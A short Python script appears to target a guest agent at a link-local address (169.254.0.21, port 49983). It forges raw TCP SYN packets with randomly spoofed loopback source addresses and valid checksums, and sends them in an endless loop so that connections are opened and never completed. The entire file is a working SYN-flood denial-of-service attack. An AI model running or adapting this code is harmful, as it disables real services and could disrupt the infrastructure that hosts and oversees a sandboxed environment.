# Begins connections to the guest agent as other machines that do not exist, and never goes on.
import os, socket, struct


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton("169.254.0.21")
print("begun", flush=True)
while True:
    source = bytes([127, *os.urandom(3)])
    tcp = struct.pack(">HHIIBBHHH", 1024 + os.urandom(1)[0], 49983, 1, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = source + target + struct.pack(">BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, source, target)
    try:
        raw.sendto(header + tcp, ("169.254.0.21", 0))
    except OSError:
        pass
